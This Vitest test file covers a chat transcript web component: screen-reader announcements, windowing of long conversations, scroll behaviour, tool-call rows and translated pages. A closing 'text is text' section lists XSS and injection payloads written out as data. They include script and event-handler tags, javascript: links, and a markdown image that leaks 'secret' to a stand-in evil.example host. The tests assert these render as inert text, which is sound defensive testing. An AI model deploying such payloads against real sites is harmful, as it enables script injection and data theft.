/** The transcript: what enters the log and when, windowing, scroll position, text that stays text. */
import { describe, expect, test } from 'vitest';
import { axeCheck, part, set, turn } from './mount.js';
import { announcements, atEnd, log, many, of, scrolled, scroller, tail, texts } from './transcript-view.js';

describe('the log', () => {
  test('announces each finished turn once, with its speaker; streaming text stays outside', async () => {
    const view = await of([]);
    const announced = announcements(view);
    for (const text of ['Hel', 'Hello', 'Hello the']) await set(view, { items: [turn('a', text, { status: 'streaming' })] });
    expect(announced()).toEqual([]);
    expect(texts(tail(view))).toEqual(['Hello the']);
    const done = turn('a', 'Hello there');
    await set(view, { items: [done] });
    await set(view, { items: [done, turn('b', 'Hi', { role: 'user' })] });
    expect(announced()).toEqual(['Agent: Hello there', 'You: Hi']);
    expect(texts(tail(view))).toEqual([]);
  });

  test('a spoken turn that waits for its transcript holds back the answer, so that they are announced in order', async () => {
    const view = await of([]);
    const announced = announcements(view);
    const answer = turn('b', 'Sure.');
    await set(view, { items: [turn('a', '', { role: 'user', status: 'streaming' }), answer] });
    expect(announced()).toEqual([]);
    expect(texts(view.renderRoot)).toEqual(['Transcribing…', 'Sure.']);
    await set(view, { items: [turn('a', 'Can you?', { role: 'user' }), answer] });
    expect(announced()).toEqual(['You: Can you?', 'Agent: Sure.']);
  });

  test('a pending transcript does not hold back later turns indefinitely', async () => {
    const view = await of([turn('a', '', { role: 'user', status: 'streaming' }), ...many(8)]);
    expect(texts(log(view))).toContain('Message 7');
  });

  test('a turn whose local id is replaced by the server’s is not announced again', async () => {
    const view = await of([turn('a', 'Hello')]);
    const announced = announcements(view);
    await set(view, { items: [turn('a', 'Hello'), turn('local', 'Typed', { role: 'user', via: 'text' })] });
    await set(view, { items: [turn('a', 'Hello'), turn('item_1', 'Typed', { role: 'user', via: 'text' })] });
    expect(announced()).toEqual(['You: Typed']);
  });

  test('paging back and to the end again announces nothing', async () => {
    const view = await of(many(300));
    const announced = announcements(view);
    for (let page = 0; page < 4; page++) {
      part(view, 'earlier-button').click();
      await view.updateComplete;
    }
    part(view, 'latest-button').click();
    await view.updateComplete;
    expect(announced()).toEqual([]);
    expect(texts(view.renderRoot).at(-1)).toBe('Message 299');
    expect(atEnd(view)).toBe(true);
  });

  test('new turns are announced while the visitor reads far above', async () => {
    const messages = many(300);
    const view = await of(messages);
    for (let page = 0; page < 4; page++) {
      part(view, 'earlier-button').click();
      await view.updateComplete;
    }
    const announced = announcements(view);
    await set(view, { items: [...messages, turn('new', 'Something new')] });
    expect(announced()).toEqual(['Agent: Something new']);
    expect(part(view, 'latest-button').textContent).toContain('New messages');
  });
});

test('a comment before the final answer is a part of its own and looks different, without relying on colour alone', async () => {
  const view = await of([
    turn('a', 'Let me look that up.', { phase: 'commentary' }),
    turn('b', 'It arrives on Friday.', { phase: 'final_answer' }),
  ]);
  const [comment, answer] = ['Let me look that up.', 'It arrives on Friday.'].map((text) =>
    [...view.renderRoot.querySelectorAll<HTMLElement>('[part~=assistant-message]')].find((row) => row.textContent?.includes(text)),
  );
  expect(comment?.part.contains('commentary-message')).toBe(true);
  expect(answer?.part.contains('commentary-message')).toBe(false);
  const edge = (row: HTMLElement | undefined): string => getComputedStyle(row?.querySelector('p') as Element).borderInlineStartStyle;
  expect([edge(comment), edge(answer)]).toEqual(['solid', 'none']);
});

test('a finished turn enters the log as a new row, whose one paragraph names the speaker', async () => {
  const view = await of([turn('a', 'Hello', { status: 'streaming' })]);
  const streaming = tail(view).firstElementChild;
  await set(view, { items: [turn('a', 'Hello.')] });
  const [row, more] = log(view).children;
  expect(row).not.toBe(streaming);
  expect([row?.querySelector('p')?.textContent, more]).toEqual(['Agent: Hello.', undefined]);
});

describe('marks', () => {
  test.each([
    [turn('a', 'It left this mor', { status: 'interrupted' }), 'Agent: It left this morInterrupted'],
    [turn('a', '', { role: 'user', status: 'failed' }), 'You: Spoken messageCould not be transcribed'],
    [turn('a', 'It is', { status: 'failed' }), 'Agent: It isAnswer cut short'],
    [turn('a', '', { role: 'user' }), 'You: Spoken message'],
    [turn('a', 'A note', { role: 'system' }), 'Note: A note'],
  ])('case %#', async (message, words) => {
    const view = await of([message]);
    expect(log(view).textContent).toBe(words);
  });

  test('an answer without text has no row; an empty transcript shows a placeholder', async () => {
    const view = await of([turn('a', '  ')]);
    expect(log(view).children).toHaveLength(0);
    await set(view, { items: [] });
    expect(part(view, 'empty').hidden).toBe(false);
  });

  test('tool rows appear where the call happened and enter the log when it is finished', async () => {
    const messages = [turn('a', 'Is it raining?', { role: 'user' })];
    const view = await of(messages);
    const call = { id: 't', callId: 'c', name: 'weather', arguments: '{}' } as const;
    await set(view, { items: [...messages, { ...call, status: 'running' }] });
    expect(texts(tail(view))).toEqual(['Using \u2068weather\u2069…']);
    await set(view, { items: [...messages, { ...call, status: 'done' }, turn('b', 'No.')] });
    expect(texts(log(view))).toEqual(['Is it raining?', 'Used \u2068weather\u2069', 'No.']);
  });

  test('tool rows keep their places in a recreated view and while paging through a long conversation', async () => {
    const call = (id: string) => ({ id, callId: id, name: id, arguments: '{}', status: 'done' }) as const;
    const items = many(100).flatMap((message, index) =>
      index % 30 === 10 ? [message, call(`tool${index}`), call(`more${index}`)] : [message],
    );
    const expected = items.map((item) => ('role' in item ? item.text : `Used \u2068${item.name}\u2069`));
    for (let times = 0; times < 2; times++) {
      const view = await of(items);
      expect(texts(view.renderRoot)).toEqual(expected.slice(-40));
      part(view, 'earlier-button').click();
      await view.updateComplete;
      expect(texts(view.renderRoot)).toEqual(expected.slice(-80));
    }
  });

  test.each([
    ['content_filter', 'Stopped by a content filter'],
    ['max_output_tokens', 'The answer was too long'],
    ['constructor', 'Answer cut short'],
    [undefined, 'Answer cut short'],
  ])('an answer that failed with %s is marked "%s"', async (reason, words) => {
    const view = await of([turn('a', 'It is', { status: 'failed', ...(reason !== undefined && { reason }) })]);
    expect(log(view).textContent).toBe(`Agent: It is${words}`);
  });
});

describe('on a translated page', () => {
  /** Imitates a browser's translator: replaces text nodes with nested `<font>` elements. */
  function translate(root: ParentNode & Node): void {
    const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
    const nodes: Text[] = [];
    while (walker.nextNode()) nodes.push(walker.currentNode as Text);
    for (const node of nodes.filter(({ data }) => data.trim() !== '')) {
      const outer = document.createElement('font');
      const inner = outer.appendChild(document.createElement('font'));
      inner.textContent = `[${node.data}]`;
      node.replaceWith(outer);
    }
  }

  test('text continues to stream, and a finished turn keeps its translation', async () => {
    const messages = [turn('a', 'Hello')];
    const view = await of([...messages, turn('s', 'One', { status: 'streaming' })]);
    translate(view.renderRoot);
    expect(texts(view.renderRoot)).toEqual(['[Hello]', '[One]']);
    for (const text of ['One two', 'One two three', 'Three']) {
      await set(view, { items: [...messages, turn('s', text, { status: 'streaming' })] });
      expect(texts(view.renderRoot)).toEqual(['[Hello]', text]);
    }
    translate(tail(view));
    await set(view, { items: [...messages, turn('s', 'Three.')] });
    expect(texts(log(view))).toEqual(['[Hello]', 'Three.']);
    expect(log(view).textContent).toContain('[Agent: ]');
  });

  test('a translator that keeps the text node next to its own elements does not duplicate the text', async () => {
    const view = await of([turn('s', 'One', { status: 'streaming' })]);
    (tail(view).querySelector('p')?.lastElementChild as Element).append(document.createElement('font'), 'eins');
    await set(view, { items: [turn('s', 'One two', { status: 'streaming' })] });
    expect(texts(tail(view))).toEqual(['One two']);
  });

  test('marks and tool rows are updated', async () => {
    const call = { id: 't', callId: 'c', name: 'pay', arguments: '{}' };
    const view = await of([{ ...call, status: 'running' }, turn('a', 'It is late', { status: 'failed' })]);
    translate(view.renderRoot);
    await set(view, { items: [{ ...call, status: 'done' }, turn('a', 'It is', { status: 'interrupted' })] });
    expect(texts(view.renderRoot)).toEqual(['Used \u2068pay\u2069', 'It is']);
    expect(log(view).textContent).toContain('Interrupted');
    expect(log(view).textContent).not.toContain('cut short');
    // A mark that does not change keeps its translation.
    translate(view.renderRoot);
    await set(view, { items: [{ ...call, status: 'done' }, turn('a', 'It is not', { status: 'interrupted' })] });
    expect(log(view).textContent).toContain('[Interrupted]');
  });
});

test('rotating the screen keeps the end visible', async () => {
  const view = await of(
    Array.from({ length: 40 }, (_, index) => turn(`m${index}`, 'some words that fill more than one line of a narrow screen '.repeat(3))),
  );
  expect(atEnd(view)).toBe(true);
  for (const [inline, block] of [
    [640, 160],
    [240, 400],
  ]) {
    view.style.cssText = `inline-size: ${inline}px; block-size: ${block}px`;
    await scrolled(view);
    expect(atEnd(view)).toBe(true);
  }
});

describe('the window', () => {
  test('10,000 turns take at most 80 rows and 700 nodes, even as more arrive', async () => {
    const messages = many(10_000);
    const view = await of(messages);
    const nodes = (): number => {
      const walker = document.createTreeWalker(view.renderRoot);
      let count = 0;
      while (walker.nextNode()) count++;
      return count;
    };
    expect(texts(view.renderRoot)).toHaveLength(40);
    for (let more = 0; more < 100; more++) {
      messages.push(turn(`n${more}`, `New ${more}`));
      await set(view, { items: [...messages] });
    }
    expect(texts(view.renderRoot).length).toBeLessThanOrEqual(80);
    for (let page = 0; page < 5; page++) {
      part(view, 'earlier-button').click();
      await view.updateComplete;
    }
    expect(texts(view.renderRoot).length).toBeLessThanOrEqual(88);
    expect(nodes()).toBeLessThanOrEqual(700);
  });

  test('every turn can be reached with "Show earlier", and back with "Show newer"', async () => {
    const view = await of(many(230));
    const seen = new Set<string | null>();
    const earlier = part(view, 'earlier-button');
    while (!earlier.hidden) {
      for (const text of texts(view.renderRoot)) seen.add(text);
      earlier.click();
      await view.updateComplete;
    }
    for (const text of texts(view.renderRoot)) seen.add(text);
    expect(seen.size).toBe(230);
    const newer = part(view, 'newer-button');
    for (let page = 0; page < 10 && !newer.hidden; page++) {
      newer.click();
      await view.updateComplete;
    }
    expect(newer.hidden).toBe(true);
    expect(texts(view.renderRoot).at(-1)).toBe('Message 229');
  });

  test('paging back keeps the focus and the reading position', async () => {
    const view = await of(many(100));
    const button = part(view, 'earlier-button');
    button.focus();
    const row = view.renderRoot.querySelector('[data-key=m60]') as HTMLElement;
    scroller(view).scrollTop = 0;
    await scrolled(view);
    const before = row.getBoundingClientRect().top;
    button.click();
    await view.updateComplete;
    expect(Math.abs(row.getBoundingClientRect().top - before)).toBeLessThan(2);
    expect(view.shadowRoot?.activeElement).toBe(button);
    button.click();
    await view.updateComplete;
    button.click();
    await view.updateComplete;
    await view.updateComplete;
    expect(button.hidden).toBe(true);
    expect(view.shadowRoot?.activeElement).toBe(scroller(view));
  });

  test('a streaming update changes only the last row', async () => {
    const messages = many(10_000);
    const view = await of([...messages, turn('s', 'A', { status: 'streaming' })]);
    const touched = new Set<Node>();
    const observer = new MutationObserver((records) => records.forEach(({ target }) => touched.add(target)));
    observer.observe(view.renderRoot, { childList: true, subtree: true, characterData: true, attributes: true });
    await set(view, { items: [...messages, turn('s', 'A word', { status: 'streaming' })] });
    for (const { target } of observer.takeRecords()) touched.add(target);
    expect([...touched].map((node) => node.nodeName)).toEqual(['#text']);
  });
});

describe('the scroll position', () => {
  test('stays at the end while text arrives', async () => {
    const messages = many(30);
    const view = await of(messages);
    expect(atEnd(view)).toBe(true);
    await set(view, { items: [...messages, turn('s', 'word '.repeat(200), { status: 'streaming' })] });
    expect(atEnd(view)).toBe(true);
  });

  test('does not change once the visitor has scrolled up, however little, and a button indicates new messages', async () => {
    const messages = many(30);
    const view = await of(messages);
    scroller(view).scrollTop -= 6;
    await scrolled(view);
    await view.updateComplete;
    const before = scroller(view).scrollTop;
    await set(view, { items: [...messages, turn('n', 'New')] });
    expect(scroller(view).scrollTop).toBe(before);
    const latest = part(view, 'latest-button');
    expect(latest.textContent?.trim()).toBe('New messages');
    latest.focus();
    latest.click();
    await view.updateComplete;
    await view.updateComplete;
    expect(atEnd(view)).toBe(true);
    expect(view.shadowRoot?.activeElement).toBe(scroller(view));
  });

  test('the region is named, reachable by keyboard, and has no axe findings', async () => {
    const view = await of(many(60));
    expect(scroller(view).tabIndex).toBe(0);
    expect(scroller(view).getAttribute('aria-label')).toBe('Transcript');
    expect(await axeCheck(view)).toEqual([]);
  });
});

describe('text is text', () => {
  const CORPUS = [
    '<img src="https://evil.example/a.png" onerror="window.pwned=1">',
    '<svg/onload=window.pwned=1><script>window.pwned=1</script>',
    '![x](https://evil.example/p.png?q=secret) [y](javascript:window.pwned=1)',
    '<a href="java\nscript:window.pwned=1">x</a><iframe srcdoc="<script>parent.pwned=1</script>">',
    '</p></div><style>*{background:url(https://evil.example/c)}</style>',
    '{"__proto__":{"polluted":1}} ${7*7} {{7*7}} <!-- lit$0$ --> <?lit$0$>',
    '\u202Eevil\u202C \u2066isolate\u2069 \u200Bzero\u200Dwidth\u0000\uFFFE',
  ];

  test.each(CORPUS)('%s', async (payload) => {
    performance.clearResourceTimings();
    const messages = [turn('a', payload), turn('b', payload, { role: 'user', status: 'streaming' })];
    const view = await of(messages);
    await set(view, { items: [...messages, { id: 't', callId: 'c', name: payload, arguments: payload, status: 'running' }] });
    expect(texts(log(view))).toEqual([payload]);
    expect(texts(tail(view))[0]).toBe(payload);
    expect(view.renderRoot.querySelector('img, script, iframe, a, .row style')).toBeNull();
    expect((window as { pwned?: number }).pwned).toBeUndefined();
    expect(performance.getEntriesByType('resource').filter(({ name }) => name.includes('evil'))).toEqual([]);
  });

  test('each turn has its own direction and does not affect its neighbours', async () => {
    const view = await of([turn('a', 'مرحبا order 12'), turn('b', '\u202Eabc')]);
    for (const text of log(view).querySelectorAll('p')) {
      expect(text.dir).toBe('auto');
      expect(getComputedStyle(text).unicodeBidi).toMatch(/isolate|plaintext/);
    }
    const [arabic, other] = log(view).querySelectorAll('p');
    expect(getComputedStyle(arabic as Element).direction).toBe('rtl');
    expect(getComputedStyle(other as Element).direction).toBe('ltr');
  });
});

test('tool rows show the progress of a call, and the server that runs it', async () => {
  const message = turn('a', 'One moment.');
  const view = await of([message]);
  const call = { id: 't', callId: 'c', name: 'pay', arguments: '{}' };
  for (const [status, words, place] of [
    ['streaming', 'Using \u2068pay\u2069…', tail],
    ['waiting', '\u2068pay\u2069 needs your approval', tail],
    ['running', 'Using \u2068pay\u2069…', tail],
    ['done', 'Used \u2068pay\u2069', log],
    ['failed', '\u2068pay\u2069 failed', log],
    ['denied', '\u2068pay\u2069 was denied', log],
  ] as const) {
    await set(view, { items: [message, { ...call, status }] });
    expect(texts(place(view)).at(-1), status).toBe(words);
  }
  await set(view, {
    items: [
      message,
      { ...call, server: 'shop', status: 'done' },
      { id: 'l', callId: 'l', name: 'mcp_list_tools', server: 'mail', arguments: '', status: 'failed' },
    ],
  });
  expect(texts(log(view)).slice(1)).toEqual(['Used \u2068pay\u2069 (\u2068shop\u2069)', 'Tools from \u2068mail\u2069 are unavailable']);
});
